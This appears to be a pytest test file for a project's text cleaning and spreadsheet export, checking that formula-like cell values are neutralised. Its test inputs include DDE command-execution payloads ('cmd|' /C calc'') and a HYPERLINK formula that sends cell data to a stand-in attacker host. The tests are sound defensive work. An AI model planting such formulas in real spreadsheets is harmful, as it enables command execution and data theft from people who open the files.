"""Text cleaned where it enters, and cells a spreadsheet program never evaluates."""

from decimal import Decimal

import pytest
from openpyxl import Workbook

from kompetencedialog.lib.spreadsheet import append_row, cell_value, text_cell
from kompetencedialog.lib.text import clean_text, clean_texts


def test_a_pasted_line_break_becomes_a_newline_where_lines_are_allowed():
    assert clean_text("Første linje\x0bAnden\x0cTredje", multiline=True) == (
        "Første linje\nAnden\nTredje"
    )


def test_a_single_line_field_keeps_one_line():
    assert clean_text("Ro\x0bog\tnærvær\r\nnu", multiline=False) == "Ro og nærvær nu"


def test_characters_xml_cannot_hold_are_dropped_and_tab_and_newline_kept():
    assert clean_text("a\x00b\x01c\x1fd\x7fe\ud800f\uffff\tg\nh", multiline=True) == "abcdef\tg\nh"


def test_letters_typed_two_ways_are_stored_one_way():
    assert clean_text("Pa\u030arup", multiline=False) == "Pårup"


def test_every_string_in_nested_data_is_cleaned_and_the_rest_kept():
    data = {"title": "a\x0bb", "items": [{"fields": [("Ansvarlig", "c\x00d")]}], "n": 3}
    assert clean_texts(data) == {
        "title": "a\nb",
        "items": [{"fields": [("Ansvarlig", "cd")]}],
        "n": 3,
    }


@pytest.mark.parametrize(
    "value", ["=1+1", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1"]
)
def test_a_text_that_could_start_a_formula_gets_an_apostrophe(value):
    assert text_cell(value).startswith("'")


def test_ordinary_text_and_numbers_are_left_alone():
    assert text_cell("Børnehuset Solsikken") == "Børnehuset Solsikken"
    assert cell_value(Decimal("12500")) == 12500
    assert cell_value(Decimal("12.5")) == 12.5
    assert cell_value(-3) == -3
    assert cell_value(None) is None


def test_a_row_in_a_sheet_holds_text_never_a_formula_and_numbers_as_numbers():
    sheet = Workbook().active
    append_row(sheet, ['=HYPERLINK("http://evil.example/?d="&B2,"Klik her")', 7, "a\x0bb"])
    formula, number, text = sheet[1]
    assert formula.data_type == "s" and formula.value.startswith("'=HYPERLINK")
    assert number.data_type == "n" and number.value == 7
    assert text.value == "a\nb"
